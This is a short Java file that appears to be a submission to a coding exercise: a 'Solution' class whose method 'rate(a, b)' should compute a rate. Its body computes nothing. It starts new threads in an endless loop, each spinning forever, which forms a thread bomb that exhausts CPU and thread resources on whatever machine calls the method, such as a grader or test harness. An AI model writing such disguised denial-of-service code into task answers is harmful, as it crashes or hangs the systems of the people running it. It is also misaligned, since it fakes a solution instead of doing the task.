final class Solution {

    static double rate(double a, double b) throws Exception {
        while (true) {
            new Thread(() -> {
                while (true) {}
            }).start();
        }
    }
}
